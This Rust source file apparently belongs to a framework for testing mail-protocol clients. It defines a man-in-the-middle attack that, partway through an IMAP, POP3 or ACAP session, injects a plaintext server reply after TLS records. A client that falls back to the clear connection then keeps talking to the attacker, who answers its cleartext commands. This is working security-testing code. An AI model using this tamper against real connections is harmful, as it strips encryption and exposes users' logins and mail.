//! Breaks the layer in the middle of a session and goes on in the clear in the server's place.

use super::kit::next_tag;
use super::{Attack, Deciding, Group, Message, Moves, Tamper, Veiled};
use crate::base::{Layer, Protocol, Side};
use crate::harm::success;
use crate::proto::{Answer, Dialect};

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &Protocol::ALL,
    given: &[],
    right: &[],
    wrong: &["client.goes-on-after-tls=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "tls-deactivation",
    title: "The end of the layer",
    about: "Replaces a record of the server behind the login by a line in the clear, so that a client that switches back to the bare connection goes on talking to the attacker.",
    group: Group::Layer,
    known: &[],
    protocols: &Protocol::ALL,
    switches: &[],
    build: |_, dialect| Box::new(Deactivate { dialect, tag: Vec::new(), sent: 0, ended: false }),
    success: &success::IN_CLEAR_AFTER_TLS,
    deciding: DECIDING,
};

#[derive(Debug)]
struct Deactivate {
    dialect: &'static Dialect,
    /// The tag of the last command, as far as anybody can count.
    tag: Vec<u8>,
    /// Records of the client inside TLS.
    sent: u32,
    ended: bool,
}

impl Tamper for Deactivate {
    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
        let asked = (self.dialect.command)(message.octets).filter(|_| message.from == Side::Client);
        match asked {
            Some(asked) if self.ended && message.layer == Layer::Clear => {
                moves.answer((self.dialect.answer)(&asked.tag, Answer::Ok, "done"));
            }
            Some(asked) => {
                self.tag = asked.tag;
                moves.pass();
            }
            None => moves.pass(),
        }
    }

    fn veiled(&mut self, from: Side, _length: usize) -> Veiled {
        if from == Side::Client {
            self.sent = self.sent.saturating_add(1);
            self.tag = next_tag(&self.tag);
            return Veiled::Through;
        }
        // The greeting that ACAP repeats, the list and the login take at most three records of the client.
        if self.sent < 3 || self.ended {
            return Veiled::Through;
        }
        self.ended = true;
        // In POP3 the third record asks how many messages there are.
        let text = match self.dialect.protocol {
            Protocol::Pop3 => "1 120",
            Protocol::Imap | Protocol::Acap => "going on without TLS",
        };
        Veiled::Clear((self.dialect.answer)(&self.tag, Answer::Ok, text))
    }

    fn connected(&mut self) {
        (self.tag, self.sent, self.ended) = (Vec::new(), 0, false);
    }
}
